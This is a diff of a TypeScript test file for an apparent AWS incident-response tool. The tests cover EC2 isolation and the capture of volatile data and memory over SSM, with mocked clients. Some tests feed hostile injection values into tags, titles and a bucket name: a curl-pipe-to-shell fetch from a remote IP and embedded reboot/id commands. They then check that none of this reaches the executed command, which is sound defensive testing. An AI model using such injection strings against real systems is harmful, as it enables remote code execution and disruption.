@@ -1,46 +1,100 @@
 import { spawnSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { gzipSync } from 'node:zlib';
+import { AuthorizeSecurityGroupEgressCommand, DescribeVpcEndpointsCommand, EC2Client, ModifyNetworkInterfaceAttributeCommand, type VpcEndpoint } from '@aws-sdk/client-ec2';
 import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
 import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, SendCommandCommand, SSMClient } from '@aws-sdk/client-ssm';
 import { mockClient } from 'aws-sdk-client-mock';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import type { Config } from '../../../../shared/config/index.ts';
-import type { StepOutcome } from '../../../../shared/engine/index.ts';
+import { ISOLATION_GROUP_NAME, UNTRACKING_GROUP_NAME } from '../../../../shared/actions/vpc-isolation.ts';
+import type { AnyStep, Step, StepResult } from '../../../../shared/engine/index.ts';
 import { StepFailedError } from '../../../../shared/errors/index.ts';
+import { isolateNetworkInterfaces } from '../../../../shared/playbooks/ec2-instance/isolation.ts';
+import { captureMemory, captureVolatileData, LINUX_VOLATILE_SCRIPT, WINDOWS_VOLATILE_SCRIPT } from '../../../../shared/playbooks/ec2-instance/online.ts';
+import type { Ec2 } from '../../../../shared/playbooks/ec2-instance/types.ts';
+import type { StepOutcome } from '../../../../shared/vocabulary/index.ts';
 import {
-  captureMemory,
-  captureVolatileData,
-  decodeCaptureOutput,
-  LINUX_VOLATILE_SCRIPT,
-  WINDOWS_VOLATILE_SCRIPT,
-  type IsolationEgress,
-} from '../../../../shared/steps/ec2/index.ts';
-import { aConfig, anIncident, anInstance, aStepContext, awsError, EVIDENCE_BUCKET, FIXED_NOW, INSTANCE_ID, motoNotImplemented, VPC_ID } from '../../helpers/factories.ts';
+  aConfig,
+  anEc2Options,
+  anIncident,
+  anInstance,
+  aStepContext,
+  awsError,
+  EVIDENCE_BUCKET,
+  FIXED_NOW,
+  INSTANCE_ID,
+  motoNotImplemented,
+  recordedBy,
+  REGION,
+  VPC_ID,
+} from '../../helpers/factories.ts';
 
 const ssmMock = mockClient(SSMClient);
 const s3Mock = mockClient(S3Client);
+const ec2Mock = mockClient(EC2Client);
 afterEach(() => {
   ssmMock.reset();
   s3Mock.reset();
+  ec2Mock.reset();
   vi.useRealTimers();
 });
 
 const COMMAND_ID = '2d2b7c8e-0d6a-4a53-9f3e-5c1b0a9e8d7f';
 const MEMORY_COMMAND = 'avml /tmp/mem.lime && aws s3 cp /tmp/mem.lime "$FIREBREAK_MEMORY_S3_URI/mem.lime"';
+const ENDPOINT_GROUP = 'sg-0e0e0e0e0e0e0e0e0';
 
-const onlineConfig = (onlineCapture: Partial<Config['ec2']['onlineCapture']> = {}): Config =>
-  aConfig({ ec2: { onlineCapture: { enabled: true, waitSeconds: 0, ...onlineCapture }, malwareScan: false } });
+/** The playbook's options with online capture on (and no wait, unless given). */
+const onlineOptions = (onlineCapture: { enabled?: boolean; wait_seconds?: number; memory_capture_command?: string } = {}) =>
+  anEc2Options({ online_capture: { enabled: true, wait_seconds: 0, ...onlineCapture } });
 
-const isolated = (egress?: IsolationEgress): Record<string, StepOutcome> => ({
-  isolateNetworkInterfaces: { stage: 'contain', status: 'done', summary: 'isolated', attempts: 1, data: { vpcId: VPC_ID, ...(egress ? { egress } : {}) } },
+/** The outcome the engine records for a step's result (its data through DynamoDB's JSON round trip). */
+const outcomeOf = (step: AnyStep<Ec2>, result: StepResult<unknown>): StepOutcome => ({
+  stage: step.stage,
+  status: result.status,
+  summary: result.summary,
+  attempts: 1,
+  ...(result.data !== undefined ? { data: JSON.parse(JSON.stringify(result.data)) } : {}),
 });
 
-const ssmRoute: IsolationEgress = {
-  allowed: [{ protocol: 'tcp', port: 443, groupId: 'sg-0e0e0e0e0e0e0e0e0' }],
-  ssmEndpointIds: ['vpce-0a0a0a0a0a0a0a0a0', 'vpce-0b0b0b0b0b0b0b0b0'],
-  reason: 'HTTPS to the SSM interface endpoints',
-};
+/** A step's own outcome as the engine hands it back on the next delivery: its data read through the step's schema. */
+const previousOf = <D>(step: Step<Ec2, D>, outcome: StepOutcome): StepOutcome<D | undefined> => ({
+  ...outcome,
+  data: step.data.safeParse(outcome.data).data,
+});
+
+const ssmEndpoint = (service: string, id: string): VpcEndpoint => ({
+  VpcEndpointId: id,
+  VpcEndpointType: 'Interface',
+  VpcId: VPC_ID,
+  ServiceName: `com.amazonaws.${REGION}.${service}`,
+  State: 'available' as VpcEndpoint['State'],
+  PrivateDnsEnabled: true,
+  Groups: [{ GroupId: ENDPOINT_GROUP, GroupName: 'endpoints' }],
+});
+/** The VPC's SSM interface endpoints, through which an isolated agent still reaches SSM. */
+const SSM_ENDPOINTS = [ssmEndpoint('ssm', 'vpce-0a0a0a0a0a0a0a0a0'), ssmEndpoint('ssmmessages', 'vpce-0b0b0b0b0b0b0b0b0')];
+
+/**
+ * isolateNetworkInterfaces as it ran against mocked EC2, in a VPC with `endpoints` (and online
+ * capture on) or with online capture off: its outcome, for the capture steps to read.
+ */
+async function isolated(endpoints: VpcEndpoint[] | 'online capture off'): Promise<Record<string, StepOutcome>> {
+  ec2Mock.on(DescribeVpcEndpointsCommand).resolves({ VpcEndpoints: endpoints === 'online capture off' ? [] : endpoints });
+  ec2Mock.on(AuthorizeSecurityGroupEgressCommand).resolves({});
+  ec2Mock.on(ModifyNetworkInterfaceAttributeCommand).resolves({});
+  const allTraffic = [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }];
+  const firebreakGroups = [
+    { GroupId: 'sg-0150150150150150a', GroupName: ISOLATION_GROUP_NAME, VpcId: VPC_ID, IpPermissions: [], IpPermissionsEgress: [] },
+    { GroupId: 'sg-0aaaaaaaaaaaaaaa0', GroupName: UNTRACKING_GROUP_NAME, VpcId: VPC_ID, IpPermissions: allTraffic, IpPermissionsEgress: allTraffic },
+  ];
+  const options = endpoints === 'online capture off' ? anEc2Options() : onlineOptions();
+  const result = await isolateNetworkInterfaces.run(aStepContext({ options, resource: anInstance({ firebreakGroups }) }));
+  ec2Mock.reset();
+  return { isolateNetworkInterfaces: outcomeOf(isolateNetworkInterfaces, result) };
+}
+
+/** A containment step that ran, as far as the capture steps look at it (its status). */
+const ran = (status: StepOutcome['status']): StepOutcome => ({ stage: 'contain', status, summary: `containment ${status}`, attempts: 1 });
 
 const online = (PlatformType: 'Linux' | 'Windows' = 'Linux') =>
   ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'Online', PlatformType }] });
@@ -52,6 +106,9 @@ const COLLECTED = '\n===== date (UTC) =====\nThu Jun 19 15:00:00 UTC 2025\n\n===
 
 const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
 
+/** Isolation as it ran in a VPC with SSM endpoints: the agent may reach them. Run once, before any test prepares its mocks. */
+const SSM_REACHABLE = await isolated(SSM_ENDPOINTS);
+
 describe('Step: captureVolatileData', () => {
   it('is skipped when online capture is not configured', async () => {
     // Prepare
@@ -61,15 +118,14 @@ describe('Step: captureVolatileData', () => {
     const result = await captureVolatileData.run(ctx);
 
     // Assess
-    expect(result).toEqual({ status: 'skipped', summary: 'volatile data capture is not configured (ec2.onlineCapture.enabled is false)' });
+    expect(result).toEqual({ status: 'skipped', summary: 'volatile data capture is not configured (online_capture.enabled is false)' });
     expect(ssmMock.calls()).toHaveLength(0);
   });
 
   it('records that capture was not possible when isolation left the SSM agent no route', async () => {
     // Prepare
     online();
-    const egress: IsolationEgress = { allowed: [], ssmEndpointIds: [], reason: `no SSM interface endpoints in ${VPC_ID}` };
-    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(egress) });
+    const ctx = aStepContext({ options: onlineOptions(), outcomes: await isolated([]) });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -83,7 +139,7 @@ describe('Step: captureVolatileData', () => {
   it('treats an isolation recorded without an egress record as leaving no route', async () => {
     // Prepare
     online();
-    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated() });
+    const ctx = aStepContext({ options: onlineOptions(), outcomes: await isolated('online capture off') });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -96,7 +152,7 @@ describe('Step: captureVolatileData', () => {
   it('is skipped when SSM does not manage the instance', async () => {
     // Prepare
     ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [] });
-    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+    const ctx = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -113,7 +169,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(DescribeInstanceInformationCommand).resolves({
       InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', LastPingDateTime: new Date('2025-06-19T14:41:00Z'), PlatformType: 'Linux' }],
     });
-    const ctx = aStepContext({ config: onlineConfig() });
+    const ctx = aStepContext({ options: onlineOptions() });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -128,13 +184,13 @@ describe('Step: captureVolatileData', () => {
     // Prepare
     ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: INSTANCE_ID, PingStatus: 'ConnectionLost', PlatformType: 'Linux' }] });
     const outcomes: Record<string, StepOutcome> = {
-      ...isolated(ssmRoute),
-      replaceInstanceProfile: { stage: 'contain', status: 'done', summary: 'profile removed', attempts: 1 },
-      revokeInstanceRoleSessions: { stage: 'contain', status: 'skipped', summary: 'role shared', attempts: 1 },
+      ...SSM_REACHABLE,
+      replaceInstanceProfile: ran('done'),
+      revokeInstanceRoleSessions: ran('skipped'),
     };
 
     // Act
-    const result = await captureVolatileData.run(aStepContext({ config: onlineConfig(), outcomes }));
+    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes }));
 
     // Assess
     expect(result.summary).toBe(
@@ -148,7 +204,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED), ResponseCode: 0 });
     s3Mock.on(PutObjectCommand).resolves({ VersionId: 'v1' });
-    const ctx = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+    const ctx = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -225,7 +281,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout('\r\n===== processes =====\r\nsvchost\r\n').replace(/\n/g, '\r\n') });
     s3Mock.on(PutObjectCommand).resolves({});
-    const ctx = aStepContext({ config: onlineConfig() });
+    const ctx = aStepContext({ options: onlineOptions() });
 
     // Act
     const result = await captureVolatileData.run(ctx);
@@ -251,7 +307,7 @@ describe('Step: captureVolatileData', () => {
       .resolvesOnce({ Status: 'InProgress' })
       .resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
     s3Mock.on(PutObjectCommand).resolves({});
-    const ctx = aStepContext({ config: onlineConfig({ waitSeconds: 5 }) });
+    const ctx = aStepContext({ options: onlineOptions({ wait_seconds: 5 }) });
 
     // Act
     const run = captureVolatileData.run(ctx);
@@ -272,14 +328,14 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
     s3Mock.on(PutObjectCommand).resolves({});
-    const first = aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute) });
+    const first = aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE });
 
     // Act
     const pending = await captureVolatileData.run(first);
     ssmMock.resetHistory();
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
-    const previous: StepOutcome = { stage: 'evidence', status: 'pending', summary: pending.summary, attempts: 1, data: pending.data! };
-    const done = await captureVolatileData.run(aStepContext({ config: onlineConfig(), outcomes: isolated(ssmRoute), previous }));
+    const previous = previousOf(captureVolatileData, outcomeOf(captureVolatileData, pending));
+    const done = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE, previous }));
 
     // Assess
     expect(pending).toEqual({
@@ -301,7 +357,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(GetCommandInvocationCommand).rejects(awsError('InvocationDoesNotExist'));
 
     // Act
-    const result = await captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions() }));
 
     // Assess
     expect(result).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
@@ -314,7 +370,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', StatusDetails: 'Failed', ResponseCode: 127, StandardErrorContent: `sh: gzip: Permission denied\n${'x'.repeat(2000)}` });
 
     // Act
-    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));
 
     // Assess
     await expect(run).rejects.toBeInstanceOf(StepFailedError);
@@ -332,7 +388,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'TimedOut', StatusDetails: 'DeliveryTimedOut', ResponseCode: -1 });
 
     // Act
-    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));
 
     // Assess
     await expect(run).rejects.toMatchObject({ code: 'CommandTimedOut', retryable: false, message: expect.stringContaining('ended TimedOut (DeliveryTimedOut)') });
@@ -343,7 +399,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(DescribeInstanceInformationCommand).rejects(motoNotImplemented('DescribeInstanceInformation'));
 
     // Act
-    const run = captureVolatileData.run(aStepContext({ config: onlineConfig() }));
+    const run = captureVolatileData.run(aStepContext({ options: onlineOptions() }));
 
     // Assess
     await expect(run).rejects.toMatchObject({ name: 'InternalFailure' });
@@ -357,7 +413,7 @@ describe('Step: captureVolatileData', () => {
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
     const hostile = "x'; curl -s http://198.51.100.23/p.sh | sh; echo '$(reboot)`id`";
     const ctx = aStepContext({
-      config: onlineConfig(),
+      options: onlineOptions(),
       incident: anIncident({ title: hostile, remoteIps: [hostile] }),
       resource: anInstance({ tags: { Name: hostile, [hostile]: hostile }, keyName: hostile }),
     });
@@ -372,24 +428,82 @@ describe('Step: captureVolatileData', () => {
     expect(everything).not.toContain('reboot');
     expect(input.Parameters!.commands).toEqual([...LINUX_VOLATILE_SCRIPT]);
   });
+
+  it("sends its command when its earlier outcome was only the engine's wait for captureMemory", async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    const waiting: StepOutcome = { stage: 'evidence', status: 'pending', summary: 'waiting for captureMemory', attempts: 0, data: { waitingOn: ['captureMemory'] } };
+
+    // Act
+    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE, previous: previousOf(captureVolatileData, waiting) }));
+
+    // Assess
+    expect(previousOf(captureVolatileData, waiting).data).toBeUndefined();
+    expect(ssmMock.commandCalls(SendCommandCommand)).toHaveLength(1);
+    expect(result).toMatchObject({ status: 'pending', data: { commandId: COMMAND_ID } });
+  });
+
+  it('saves output without markers as it came, saying so and that it was cut at the stdout limit', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    const stdout = 'x'.repeat(24_000);
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: stdout });
+    s3Mock.on(PutObjectCommand).resolves({});
+
+    // Act
+    const result = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));
+
+    // Assess
+    expect(result.summary).toContain("; truncated at Run Command's 24,000-character stdout limit; the output had no capture markers or could not be decoded: saved as it came");
+    expect(result.data).toEqual({ commandId: COMMAND_ID, platform: 'Linux', bytes: 24_000, truncated: true, format: 'raw' });
+    expect(result.evidence![0]!.sha256).toBe(sha256(stdout));
+  });
+
+  it('records what its schema reads back: why it could not, the command it waits on, what it captured', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    s3Mock.on(PutObjectCommand).resolves({});
+    const skipped = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: await isolated([]) }));
+    const pending = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', StandardOutputContent: encodedStdout(COLLECTED) });
+
+    // Act
+    const done = await captureVolatileData.run(aStepContext({ options: onlineOptions(), outcomes: SSM_REACHABLE }));
+
+    // Assess
+    expect(captureVolatileData.data.parse(JSON.parse(JSON.stringify(skipped.data)))).toEqual({ reason: `no SSM interface endpoints in ${VPC_ID}` });
+    expect(previousOf(captureVolatileData, outcomeOf(captureVolatileData, pending)).data).toEqual(pending.data);
+    expect(recordedBy(captureVolatileData, done)).toEqual(done.data);
+  });
+
+  it('runs after captureMemory (order of volatility)', () => {
+    // Assess
+    expect(captureVolatileData.after).toEqual([captureMemory]);
+    expect(captureVolatileData.iamActions).toEqual(['ssm:DescribeInstanceInformation', 'ssm:SendCommand', 'ssm:GetCommandInvocation', 's3:PutObject']);
+  });
 });
 
 describe('Step: captureMemory', () => {
   it('is skipped when no memory capture command is configured, even with online capture on', async () => {
     // Prepare
-    const ctx = aStepContext({ config: onlineConfig() });
+    const ctx = aStepContext({ options: onlineOptions() });
 
     // Act
     const result = await captureMemory.run(ctx);
 
     // Assess
-    expect(result).toEqual({ status: 'skipped', summary: 'memory capture is not configured (no ec2.onlineCapture.memoryCaptureCommand)' });
+    expect(result).toEqual({ status: 'skipped', summary: 'memory capture is not configured (no online_capture.memory_capture_command)' });
     expect(ssmMock.calls()).toHaveLength(0);
   });
 
   it('is skipped when online capture is off, even with a command configured', async () => {
     // Prepare
-    const ctx = aStepContext({ config: onlineConfig({ enabled: false, memoryCaptureCommand: MEMORY_COMMAND }) });
+    const ctx = aStepContext({ options: onlineOptions({ enabled: false, memory_capture_command: MEMORY_COMMAND }) });
 
     // Act
     const result = await captureMemory.run(ctx);
@@ -401,8 +515,7 @@ describe('Step: captureMemory', () => {
 
   it('records that capture was not possible when isolation left the SSM agent no route', async () => {
     // Prepare
-    const egress: IsolationEgress = { allowed: [], ssmEndpointIds: [], reason: `no SSM interface endpoints in ${VPC_ID}` };
-    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }), outcomes: isolated(egress) });
+    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), outcomes: await isolated([]) });
 
     // Act
     const result = await captureMemory.run(ctx);
@@ -417,16 +530,16 @@ describe('Step: captureMemory', () => {
     online();
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
-    const config = onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND });
-    const ctx = aStepContext({ config, outcomes: isolated(ssmRoute) });
+    const options = onlineOptions({ memory_capture_command: MEMORY_COMMAND });
+    const ctx = aStepContext({ options, outcomes: SSM_REACHABLE });
     const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;
 
     // Act
     const pending = await captureMemory.run(ctx);
     ssmMock.resetHistory();
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0 });
-    const previous: StepOutcome = { stage: 'evidence', status: 'pending', summary: pending.summary, attempts: 1, data: pending.data! };
-    const done = await captureMemory.run(aStepContext({ config, outcomes: isolated(ssmRoute), previous }));
+    const previous = previousOf(captureMemory, outcomeOf(captureMemory, pending));
+    const done = await captureMemory.run(aStepContext({ options, outcomes: SSM_REACHABLE, previous }));
 
     // Assess
     expect(pending).toMatchObject({ status: 'pending', retryAfterSeconds: 60, data: { commandId: COMMAND_ID } });
@@ -443,7 +556,7 @@ describe('Step: captureMemory', () => {
     online();
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
-    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }), resource: anInstance({ tags: { Name: '$(reboot)' } }) });
+    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), resource: anInstance({ tags: { Name: '$(reboot)' } }) });
     const prefix = `incidents/${ctx.incident.incidentId}/online/memory`;
 
     // Act
@@ -471,7 +584,7 @@ describe('Step: captureMemory', () => {
   it('is skipped on Windows, where the configured shell command cannot run', async () => {
     // Prepare
     online('Windows');
-    const ctx = aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }) });
+    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) });
 
     // Act
     const result = await captureMemory.run(ctx);
@@ -489,53 +602,50 @@ describe('Step: captureMemory', () => {
     ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Failed', ResponseCode: 1, StandardErrorContent: 'avml: command not found' });
 
     // Act
-    const run = captureMemory.run(aStepContext({ config: onlineConfig({ memoryCaptureCommand: MEMORY_COMMAND }) }));
+    const run = captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) }));
 
     // Assess
     await expect(run).rejects.toMatchObject({ step: 'captureMemory', code: 'CommandFailed', retryable: false, message: expect.stringContaining('avml: command not found') });
   });
-});
 
-describe('Function: decodeCaptureOutput', () => {
-  it('recovers what a truncated gzip+base64 stream holds and says it was truncated', () => {
+  it('records the platform when the command cannot run on it', async () => {
     // Prepare
-    const long = Array.from({ length: 4000 }, (_, n) => `line ${n} ${createHash('md5').update(String(n)).digest('hex')}`).join('\n');
-    const stdout = encodedStdout(long).slice(0, 24_000);
+    online('Windows');
 
     // Act
-    const decoded = decodeCaptureOutput(`${stdout}\n---Output truncated---`);
+    const result = await captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }) }));
 
     // Assess
-    expect(decoded.format).toBe('gzip+base64');
-    expect(decoded.truncated).toBe(true);
-    expect(decoded.text.length).toBeGreaterThan(1000);
-    expect(long.startsWith(decoded.text)).toBe(true);
+    expect(result.data).toEqual({ reason: `the memory capture command is a shell command and ${INSTANCE_ID} runs Windows`, platform: 'Windows' });
+    expect(captureMemory.data.parse(result.data)).toEqual(result.data);
   });
 
-  it('reads plain output between the markers', () => {
-    // Act
-    const decoded = decodeCaptureOutput('noise\nFIREBREAK-BEGIN plain\r\nhello\r\nFIREBREAK-END\r\n');
-
-    // Assess
-    expect(decoded).toEqual({ text: 'hello\n', format: 'plain', truncated: false });
-  });
-
-  it('keeps output without markers as it came', () => {
-    // Act
-    const decoded = decodeCaptureOutput('sh: 1: collect: not found\n');
-
-    // Assess
-    expect(decoded).toEqual({ text: 'sh: 1: collect: not found\n', format: 'raw', truncated: false });
-  });
-
-  it('keeps the stdout as it came when the compressed part cannot be read', () => {
+  it('exports no destination variables when the bucket name is not safe to put in a shell line', async () => {
     // Prepare
-    const stdout = 'FIREBREAK-BEGIN gzip+base64\nbm90IGd6aXA=\nFIREBREAK-END\n';
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
+    const ctx = aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), config: aConfig({ evidenceBucket: "evidence'; reboot; '" }) });
 
     // Act
-    const decoded = decodeCaptureOutput(stdout);
+    await captureMemory.run(ctx);
 
     // Assess
-    expect(decoded).toEqual({ text: stdout, format: 'raw', truncated: false });
+    expect(ssmMock.commandCalls(SendCommandCommand)[0]!.args[0].input.Parameters!.commands).toEqual([MEMORY_COMMAND]);
+  });
+
+  it('records where the dump went, which its schema reads back', async () => {
+    // Prepare
+    online();
+    ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND_ID } });
+    ssmMock.on(GetCommandInvocationCommand).resolves({ Status: 'Success', ResponseCode: 0 });
+
+    // Act
+    const result = await captureMemory.run(aStepContext({ options: onlineOptions({ memory_capture_command: MEMORY_COMMAND }), outcomes: SSM_REACHABLE }));
+
+    // Assess
+    expect(result.status).toBe('done');
+    expect(recordedBy(captureMemory, result)).toEqual(result.data);
+    expect(captureMemory.iamActions).toEqual(['ssm:DescribeInstanceInformation', 'ssm:SendCommand', 'ssm:GetCommandInvocation']);
   });
 });
